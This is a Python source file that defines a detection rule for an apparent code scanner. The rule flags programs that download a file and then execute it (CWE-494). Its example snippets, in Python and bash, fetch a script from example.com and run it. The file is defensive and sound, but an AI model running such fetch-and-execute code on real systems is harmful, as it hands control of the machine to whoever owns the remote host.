"""MF-PROC-004."""

from __future__ import annotations

from mayfly.scan.facts import CommandUse, FileUse, ProgramEnd
from mayfly.scan.judge import shown
from mayfly.scan.rule import Hit, Rule, Scene

__all__ = ["RULE"]

_RUNNERS = frozenset({"run-file", "chmod", "sh", "bash", "python", "python3", "perl", "source", ".", "node"})
_HARMLESS = frozenset({"echo", "cat", "ls"})


def _check(fact: ProgramEnd, _scene: Scene) -> Hit | None:
    stored = {
        text.rpartition("/")[2]
        for f in fact.of(FileUse)
        if f.op == "write" and "net" in f.content.taints
        for text in f.path.texts
    } - {""}
    if not stored:
        return None
    for f in fact.of(CommandUse):
        if f.name not in _HARMLESS:
            used = {arg.rpartition("/")[2] for arg in f.args} if f.name in _RUNNERS else {f.name}
            if used & stored:
                return Hit(f"runs what it downloaded: {shown(', '.join(sorted(used & stored)))}")
    return None


RULE = Rule(
    id="MF-PROC-004",
    title="Runs what it downloaded",
    rationale="Code fetched a moment before is run: whoever owns the host decides what happens here.",
    severity="critical",
    cwe="CWE-494",
    confidence="high",
    capabilities=("net", "proc"),
    facts=(ProgramEnd,),
    check=_check,
    examples={
        "python": (
            "import os, urllib.request\n"
            "urllib.request.urlretrieve('https://example.com/a', '/tmp/a.sh')\n"
            "os.system('sh /tmp/a.sh')"
        ),
        "bash": "curl -o a.sh https://example.com/a\nchmod +x a.sh\n./a.sh",
    },
    near_misses={
        "python": ("import urllib.request\nurllib.request.urlretrieve('https://example.com/a', 'a.csv')"),
        "bash": "curl -o a.csv https://example.com/a\nwc -l a.csv",
    },
    languages=("python", "bash"),
)
